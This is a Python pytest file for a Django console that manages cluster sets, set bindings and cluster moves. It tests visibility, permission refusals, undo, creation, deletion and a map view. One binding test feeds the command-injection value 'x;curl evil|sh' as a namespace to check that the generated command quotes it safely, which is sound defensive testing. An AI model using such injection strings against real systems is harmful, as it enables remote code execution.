"""The pages of sets, bindings and moves: what each person sees, what is refused and where it says so."""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone
from guardian.shortcuts import assign_perm

from clusters.kinds import CLUSTERSET_LABEL, GROUP
from clusters.models import ManagedCluster
from clustersets.models import ManagedClusterSet, ManagedClusterSetBinding
from ocmconsole.kubeapi.models import AuditEvent, BulkItem, BulkJob
from tests import factories as make
from tests.actors import grant, person, rule, signed_in
from tests.kept import kept

pytestmark = pytest.mark.django_db

SETS = "managedclustersets"
Doc = dict[str, Any]


@pytest.fixture(autouse=True)
@kept
def fleet() -> None:
    """Two exclusive sets and one by labels; two namespaces, one bound."""
    for name in ("default", "web", "db"):
        make.clusterset(name)
    make.clusterset(
        "prod", selector={"selectorType": "LabelSelector", "labelSelector": {"matchLabels": {"env": "prod"}}}
    )
    for name, of, env in (
        ("web-1", "web", "prod"),
        ("web-2", "web", "test"),
        ("db-1", "db", "prod"),
        ("lost", "", "x"),
    ):
        make.cluster(name, labels={"env": env} | ({CLUSTERSET_LABEL: of} if of else {}))
    for name in ("shop", "ops"):
        make.namespace(name)
    make.binding("web", namespace="shop")
    make.settle()


@pytest.fixture
def admin() -> Client:
    return signed_in("root", is_superuser=True)


def owner(*names: str, rights: str = "view join") -> Client:
    """raj, with rights on these sets and on clusters' labels there."""
    client = signed_in("raj")
    for name in names:
        for right in rights.split():
            assign_perm(f"clustersets.{right}_managedclusterset", User.objects.get(username="raj"), found(name))
    return client


def found(name: str) -> ManagedClusterSet:
    return ManagedClusterSet.objects.get(name=name)


def where(cluster: str) -> str:
    return str(ManagedCluster.objects.get(name=cluster).clusterset)


def may_relabel(name: str = "raj") -> None:
    grant(person(name), rule("patch", "managedclusters", groups=GROUP))


def text(response: Any) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))


class TestSight:
    def test_an_admin_sees_every_set_with_its_clusters_counted(self, admin: Client) -> None:
        rows = {row["name"]: row for row in admin.get("/sets/").context["sets"]}
        assert {name: row["composition"].total for name, row in rows.items()} == {
            "db": 1, "default": 1, "prod": 2, "web": 2
        }  # fmt: skip
        assert rows["web"]["bindings"] == 1
        assert rows["prod"]["sentence"] == "Clusters where env is prod."

    @pytest.mark.contract("D16")
    def test_one_who_sees_one_set_sees_nothing_of_the_others(self) -> None:
        client = owner("web", rights="view")
        shown = client.get("/sets/")
        assert [row["name"] for row in shown.context["sets"]] == ["web"]
        assert shown.context["total"] == 1
        for path in ("/sets/", "/sets/?view=map", "/sets/web/", "/sets/web/bindings/", "/claims/", "/namespaces/"):
            page = text(client.get(path))
            assert not re.search(r"\b(db|db-1|lost|shop|ops)\b", page), path
        for path in ("/sets/db/", "/sets/db/people/", "/sets/db/_add/", "/sets/db/_delete/", "/clusters/db-1/set/",
                     "/namespaces/shop/", "/namespaces/shop/_unbind/web/"):  # fmt: skip
            assert client.get(path).status_code == 404, path

    @pytest.mark.contract("D16")
    def test_only_visible_clusters_count(self) -> None:
        client = signed_in("li")
        li = User.objects.get(username="li")
        assign_perm("clusters.view_managedcluster", li, ManagedCluster.objects.get(name="web-1"))
        grant(person("li"), rule("get list", SETS, groups=GROUP))
        rows = {row["name"]: row["composition"].total for row in client.get("/sets/").context["sets"]}
        assert rows == {"db": 0, "default": 0, "prod": 1, "web": 1}
        assert "The set has members, but none that you may see" in text(client.get("/sets/db/"))

    @pytest.mark.parametrize("tab", ["", "bindings/", "people/", "definition/"])
    def test_no_tab_calls_a_set_empty_whose_clusters_one_may_not_see(self, tab: str) -> None:
        grant(person("li"), rule("get list", SETS, groups=GROUP))
        page = signed_in("li").get(f"/sets/web/{tab}").content.decode()
        assert "The set has members, but none that you may see." in page
        assert "Nobody has put a cluster into it." not in page

    def test_a_namespace_whose_bindings_one_may_not_list_is_not_called_unbound(self) -> None:
        grant(person("li"), rule("get", "namespaces", names="shop ops"))
        li = signed_in("li")
        for name in ("shop", "ops"):
            page = li.get(f"/namespaces/{name}/").content.decode()
            assert "choose nothing" not in page
            assert "Nothing is bound here" not in page
            assert "0 bindings" not in page
            assert "You may not see what is bound here" in page
        assert li.get("/namespaces/").content.decode().count("not visible to you") == 2
        grant(person("li"), rule("list", "managedclustersetbindings", groups=GROUP), namespace="ops")
        page = li.get("/namespaces/ops/").content.decode()
        assert "No set is bound here, so its placements choose nothing." in page
        assert "Nothing is bound here" in page

    def test_who_has_no_right_reads_so(self) -> None:
        assert "You can see none of the hub\N{RIGHT SINGLE QUOTATION MARK}s sets" in text(
            signed_in("mallory").get("/sets/")
        )

    @pytest.mark.parametrize("tab", ["", "bindings/", "people/", "definition/"])
    def test_every_tab_of_a_set_opens(self, admin: Client, tab: str) -> None:
        for name in ("default", "web", "prod"):
            assert admin.get(f"/sets/{name}/{tab}").status_code == 200
        assert admin.get("/sets/web/nonsense/").status_code == 404

    def test_the_people_of_a_set_are_named_with_where_they_have_it_from(self, admin: Client) -> None:
        owner("web")
        grant(person("ana"), rule("create", f"{SETS}/join", groups=GROUP, names="web"))
        join = admin.get("/sets/web/people/").context["rights"][0]["holders"]
        sources = {holder.name: [source.text for source in holder.sources] for holder in join}
        assert sources["raj"] == ["Django permission clustersets.join_managedclusterset on web"]
        assert sources["root"] == ["is a superuser"]
        assert sources["ana"][0].startswith("ClusterRoleBinding grant-")

    def test_rights_of_rbac_are_for_those_who_may_list_them(self) -> None:
        grant(person("ana"), rule("create", f"{SETS}/join", groups=GROUP, names="web"))
        page = owner("web").get("/sets/web/people/")
        assert not re.search(r"\bana\b", text(page))
        assert "you may not list clusterrolebindings" in text(page)


class TestQueries:
    @pytest.mark.parametrize("path", ["/sets/", "/sets/?view=map", "/sets/web/", "/namespaces/", "/namespaces/shop/"])
    def test_their_number_does_not_grow_with_rows(
        self, admin: Client, django_assert_max_num_queries: Callable[..., Any], path: str
    ) -> None:
        admin.get(path)
        with django_assert_max_num_queries(60) as few:
            admin.get(path)
        for number in range(8):
            make.clusterset(f"more-{number}")
            make.cluster(f"c-{number}", labels={CLUSTERSET_LABEL: "web"})
            make.namespace(f"n-{number}")
            make.binding(f"more-{number}", namespace="shop")
        with django_assert_max_num_queries(len(few)):
            admin.get(path)


def undo(client: Client, done: Any) -> Any:
    """Press the button of the page that says what was done."""
    return client.post(f"{done.request['PATH_INFO']}undo/", follow=True)


def select(client: Client, *names: str) -> str:
    """The address of the page that moves them."""
    answer = client.post("/clusters/_select/", {"cluster": list(names), "act": "move"})
    assert answer.status_code == 302
    return str(answer["Location"])


class TestMove:
    @pytest.mark.contract("A6")
    def test_effects_are_named_on_both_sides(self, admin: Client) -> None:
        owner("db", rights="view")
        plan = admin.get("/clusters/web-1/set/?to=db").context["plan"]
        assert (plan.leaves, plan.enters) == (("web",), ("db",))
        assert plan.lost == (("shop", "web"),)
        assert plan.shift.gain == ("raj",)
        assert [step.is_possible for step in plan.steps] == [True]

    @pytest.mark.contract("A6")
    def test_with_join_on_both_sets_a_cluster_moves(self) -> None:
        client = owner("web", "db")
        may_relabel()
        done = client.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}, follow=True)
        assert where("web-1") == "db"
        assert "web-1 moved to set db" in text(done)
        entry = AuditEvent.objects.filter(name="web-1").latest("pk")
        assert (entry.user, entry.entry_point) == ("raj", "web")

    @pytest.mark.contract("A6")
    @pytest.mark.parametrize(("held", "lacking"), [("web", "db"), ("db", "web")])
    def test_without_join_on_one_of_them_nothing_moves(self, held: str, lacking: str) -> None:
        client = owner("web", "db", rights="view")
        may_relabel()
        assign_perm("clustersets.join_managedclusterset", User.objects.get(username="raj"), found(held))
        page = client.get("/clusters/web-1/set/?to=db")
        step = page.context["plan"].steps[0]
        assert f"set {lacking}" in step.obstacle
        assert f"name={lacking}" in step.explain_url
        refused = client.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"})
        assert refused.status_code == 403
        assert "cannot add/remove a ManagedCluster" in text(refused)
        assert where("web-1") == "web"

    def test_without_the_right_to_change_the_cluster_nothing_moves(self) -> None:
        client = owner("web", "db")
        step = client.get("/clusters/web-1/set/?to=db").context["plan"].steps[0]
        assert step.obstacle == "you may not change web-1"
        assert client.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}).status_code == 403
        assert where("web-1") == "web"

    def test_the_command_of_many_names_no_cluster_that_there_is_not(self, admin: Client) -> None:
        names = [f"more-{number:02}" for number in range(12)]
        for name in names:
            make.cluster(name, labels={CLUSTERSET_LABEL: "web"})
        shown = admin.get(f"{select(admin, *names)}?to=db")
        first, rest = shown.context["commands"]
        assert first == f"clusteradm clusterset set db --clusters {','.join(names[:10])}"
        assert rest == "# and the same for 2 more"

    def test_what_was_moved_meanwhile_is_not_moved_again(self, admin: Client) -> None:
        make.label("web-1", {CLUSTERSET_LABEL: "default"})
        stale = admin.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"})
        assert stale.status_code == 409
        assert "it was moved meanwhile and is in set default now" in text(stale)

    def test_many_move_each_by_itself(self) -> None:
        client = owner("web", "db")
        grant(person("raj"), rule("patch", "managedclusters", groups=GROUP, names="web-1"))
        chosen = select(client, "web-1", "web-2", "lost")
        plan = client.get(f"{chosen}?to=db").context["plan"]
        assert {step.cluster: step.is_possible for step in plan.steps} == {"web-1": True, "web-2": False}
        client.post(chosen, {"to": "db"})
        assert (where("web-1"), where("web-2")) == ("db", "web")

    def test_more_than_twenty_ask_for_their_number(self, admin: Client) -> None:
        names = [f"many-{number}" for number in range(21)]
        for name in names:
            make.cluster(name, labels={CLUSTERSET_LABEL: "web"})
        chosen = select(admin, *names)
        assert admin.post(chosen, {"to": "db", "typed": "21"}).status_code == 400, "nobody has seen what it does"
        assert admin.get(f"{chosen}?to=db").status_code == 200
        assert admin.post(chosen, {"to": "db", "typed": "20"}).status_code == 400
        assert where(names[0]) == "web"
        assert admin.post(chosen, {"to": "db", "typed": "21"}).status_code == 302
        make.settle()
        assert {where(name) for name in names} == {"db"}

    def test_a_move_can_be_undone(self, admin: Client) -> None:
        done = admin.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}, follow=True)
        assert done.context["can_undo"]
        assert "web-1 moved back" in text(undo(admin, done))
        assert where("web-1") == "web"
        assert not admin.get(done.request["PATH_INFO"]).context["can_undo"]
        assert "Nothing was done." in text(undo(admin, done))

    @pytest.mark.parametrize("seen", ["", ",,,", "a/b=web,c=web", "=web,c=web", "a" * 300 + "=web", "a\0=web"])
    def test_a_damaged_page_moves_nothing(self, admin: Client, seen: str) -> None:
        assert admin.post("/clusters/web-1/set/", {"to": "db", "seen": seen}).status_code == 400

    def test_nothing_is_undone_while_one_is_under_way(self, admin: Client) -> None:
        done = admin.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}, follow=True)
        BulkItem.objects.update(state=BulkItem.State.RUNNING)
        assert "Nothing was done." in text(undo(admin, done))
        assert where("web-1") == "db"

    def test_undo_leaves_alone_what_somebody_moved_again(self, admin: Client) -> None:
        done = admin.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}, follow=True)
        make.label("web-1", {CLUSTERSET_LABEL: "default"})
        assert "it was moved meanwhile" in text(undo(admin, done)).lower()
        assert where("web-1") == "default"

    def test_after_ten_minutes_nothing_is_undone(self, admin: Client) -> None:
        done = admin.post("/clusters/web-1/set/", {"to": "db", "seen": "web-1=web"}, follow=True)
        BulkJob.objects.update(ended=timezone.now() - timedelta(minutes=10))
        assert "Nothing was done." in text(undo(admin, done))
        assert where("web-1") == "db"


class TestCreate:
    def form(self, name: str, **more: str) -> Doc:
        return {"name": name, "kind": "exclusive", "r-TOTAL_FORMS": "2", "r-INITIAL_FORMS": "0"} | more

    def test_an_exclusive_set(self, admin: Client) -> None:
        assert admin.post("/sets/_new/", self.form("edge")).status_code == 302
        assert found("edge").doc["spec"]["clusterSelector"] == {"selectorType": "ExclusiveClusterSetLabel"}

    @pytest.mark.contract("T6")
    def test_a_set_by_labels_is_shown_before_it_is_made(self, admin: Client) -> None:
        wanted = self.form("busy", kind="labels") | {
            "r-0-key": "env", "r-0-operator": "In", "r-0-values": "prod, test", "r-1-operator": "In"
        }  # fmt: skip
        shown = admin.post("/sets/_new/", wanted | {"preview": "1"})
        assert shown.context["preview"]["names"] == ["db-1", "web-1", "web-2"]
        assert not ManagedClusterSet.objects.filter(name="busy").exists()
        admin.post("/sets/_new/", wanted)
        expressions = found("busy").doc["spec"]["clusterSelector"]["labelSelector"]["matchExpressions"]
        assert expressions == [{"key": "env", "operator": "In", "values": ["prod", "test"]}]

    def test_another_condition_keeps_what_was_typed(self, admin: Client) -> None:
        more = admin.post("/sets/_new/", self.form("busy", kind="labels") | {"r-0-key": "env", "more": "1"})
        assert more.context["rows"].total_form_count() == 3
        assert b'value="env"' in more.content

    @pytest.mark.parametrize(
        ("wrong", "status", "said"),
        [
            ({"name": "Not_a_name"}, 422, "RFC 1123"),
            ({"name": "web"}, 409, "already exists"),
            ({"name": ""}, 400, "Give the set a name."),
            ({"kind": "labels"}, 400, "Say at least one condition"),
            ({"kind": "labels", "r-0-key": "!"}, 400, "Invalid value"),
            ({"kind": "labels", "r-0-key": "env", "r-0-operator": "In"}, 400, "values set can"),
            ({"r-TOTAL_FORMS": "9999"}, 400, "at most 20"),
        ],
    )
    def test_what_is_wrong_stands_beside_its_field(self, admin: Client, wrong: Doc, status: int, said: str) -> None:
        refused = admin.post("/sets/_new/", self.form("edge") | wrong)
        assert refused.status_code == status
        assert said in text(refused)

    def test_without_permission_it_is_refused(self) -> None:
        client = owner("web")
        assert not client.get("/sets/_new/").context["can_create"]
        assert client.post("/sets/_new/", self.form("edge")).status_code == 403


class TestDelete:
    def test_it_lists_what_goes_and_wants_the_name(self, admin: Client) -> None:
        owner("web", rights="view")
        shown = admin.get("/sets/web/_delete/")
        assert shown.context["namespaces"] == ["shop"]
        assert shown.context["shift"].lose == ("raj",)
        assert admin.post("/sets/web/_delete/", {"typed": "webb"}).status_code == 400
        assert admin.post("/sets/web/_delete/", {"typed": "web"}).status_code == 302
        assert not ManagedClusterSet.objects.filter(name="web").exists()

    @pytest.mark.contract("H23")
    def test_what_the_hub_keeps_is_refused_with_the_reason(self, admin: Client) -> None:
        refused = admin.post("/sets/default/_delete/", {"typed": "default"})
        assert refused.status_code == 409
        assert "it would be made again at once" in text(refused)
        assert ManagedClusterSet.objects.filter(name="default").exists()

    def test_without_permission_it_is_refused(self) -> None:
        assert owner("web").post("/sets/web/_delete/", {"typed": "web"}).status_code == 403


class TestBinding:
    def binder(self, *names: str, namespace: str = "ops") -> Client:
        grant(
            person("raj"),
            rule("get list create delete", "managedclustersetbindings", groups=GROUP),
            namespace=namespace,
        )
        return owner(*names, rights="view bind")

    @pytest.mark.contract("A9")
    def test_one_who_may_bind_binds(self) -> None:
        client = self.binder("web")
        shown = client.get("/namespaces/_bind/?set=web&namespace=ops")
        assert shown.context["composition"].total == 2
        assert client.post("/namespaces/_bind/", {"set": "web", "namespace": "ops"}).status_code == 302
        make.settle()
        page = client.get("/namespaces/ops/")
        assert [(row["name"], row["condition"]["status"]) for row in page.context["bindings"]] == [("web", "True")]

    @pytest.mark.contract("A9")
    def test_without_bind_on_the_set_it_is_refused_beside_the_set(self) -> None:
        client = self.binder()
        owned = User.objects.get(username="raj")
        assign_perm("clustersets.view_managedclusterset", owned, found("web"))
        refused = client.post("/namespaces/_bind/", {"set": "web", "namespace": "ops"})
        assert refused.status_code == 403
        assert "is not allowed to bind cluster set" in str(refused.context["form"].errors["set"])

    @pytest.mark.contract("D4")
    def test_the_namespace_of_a_cluster_is_refused_beside_the_namespace(self, admin: Client) -> None:
        make.accept("web-1")
        make.settle()
        refused = admin.post("/namespaces/_bind/", {"set": "web", "namespace": "web-1"})
        assert refused.status_code == 422
        assert "cluster namespace of a registered cluster" in str(refused.context["form"].errors["namespace"])

    def test_a_namespace_of_a_link_is_one_word_of_the_command(self, admin: Client) -> None:
        page = admin.get("/namespaces/_bind/", {"set": "web", "namespace": "x;curl evil|sh"})
        assert shlex.split(page.context["command"])[-2:] == ["--namespace", "x;curl evil|sh"]

    def test_a_namespace_where_one_may_do_nothing_is_refused(self) -> None:
        client = self.binder("web")
        for namespace in ("shop", "nowhere"):
            assert client.post("/namespaces/_bind/", {"set": "web", "namespace": namespace}).status_code == 403

    def test_unbinding_says_what_is_lost_and_does_it(self, admin: Client) -> None:
        assert admin.get("/namespaces/shop/_unbind/web/").context["only"].total == 2
        make.binding("prod", namespace="shop")
        assert admin.get("/namespaces/shop/_unbind/web/").context["only"].total == 1
        admin.post("/namespaces/shop/_unbind/web/")
        assert not ManagedClusterSetBinding.objects.filter(name="web").exists()

    def test_unbinding_without_the_right_is_refused(self) -> None:
        grant(person("li"), rule("get list", "managedclustersetbindings", groups=GROUP), namespace="shop")
        client = signed_in("li")
        assert not client.get("/namespaces/shop/_unbind/web/").context["can_unbind"]
        assert client.post("/namespaces/shop/_unbind/web/").status_code == 403

    @pytest.mark.contract("D25")
    def test_both_pages_say_what_becomes_of_profiles_while_their_gate_is_on(self, admin: Client, settings: Any) -> None:
        binds, unbinds = "/namespaces/_bind/?set=web&namespace=ops", "/namespaces/shop/_unbind/web/"
        assert "With its name, set, claims, version and health" in text(admin.get(binds))
        assert "Deletes the ClusterProfiles there" in text(admin.get(unbinds))
        settings.OCMCONSOLE_FEATURE_GATES = settings.OCMCONSOLE_FEATURE_GATES | {"ClusterProfile": False}
        assert "ClusterProfile" not in text(admin.get(binds)) + text(admin.get(unbinds))

    def test_a_binding_without_its_set_says_so(self, admin: Client) -> None:
        admin.post("/sets/web/_delete/", {"typed": "web"})
        make.settle()
        assert "ClusterSetNotFound" in text(admin.get("/namespaces/shop/"))


class TestMap:
    def test_it_draws_what_hangs_together(self, admin: Client) -> None:
        graph = admin.get("/sets/?view=map").context["graph"]
        assert [node.label for node in graph.namespaces] == ["shop"]
        assert [(edge.start, edge.end) for edge in graph.bindings] == [("namespace:shop", "set:web")]
        assert ("set:db", "word:needs-review") in [(edge.start, edge.end) for edge in graph.members]

    @pytest.mark.parametrize("node", ["set:web", "namespace:shop"])
    def test_a_click_narrows_map_and_table(self, admin: Client, node: str) -> None:
        context = admin.get(f"/sets/?view=map&node={node}").context
        assert [each.label for each in context["graph"].sets] == ["web"]
        assert [row["name"] for row in context["rows"]] == ["web"]

    def test_a_cluster_in_several_sets_is_counted_once(self, admin: Client) -> None:
        make.clusterset("global", selector={"selectorType": "LabelSelector", "labelSelector": {}})
        for node, clusters, sets in (
            ("", 4, 5),
            ("set:prod", 2, 1),
            ("namespace:shop", 2, 1),
            ("word:needs-review", 4, 5),
        ):
            shown = admin.get("/sets/", {"view": "map", "node": node})
            graph = shown.context["graph"]
            assert (graph.total, [each.count for each in graph.words]) == (clusters, [clusters]), node
            assert f"{clusters} clusters in {sets} set" in text(shown)

    def test_a_cluster_that_two_selectors_choose_is_counted_once(self, admin: Client) -> None:
        for number in range(25):  # more than one statement asks for
            chosen = {"matchLabels": {"env": "prod" if number % 2 else "test"}}
            make.clusterset(f"more-{number}", selector={"selectorType": "LabelSelector", "labelSelector": chosen})
        assert admin.get("/sets/?view=map").context["graph"].total == 4

    @pytest.mark.parametrize("node", ["set:nobody", "word:nonsense", "nonsense", "set:", "namespace:…"])
    def test_an_odd_filter_draws_something_or_says_nothing_is_there(self, admin: Client, node: str) -> None:
        assert admin.get("/sets/", {"view": "map", "node": node}).status_code == 200
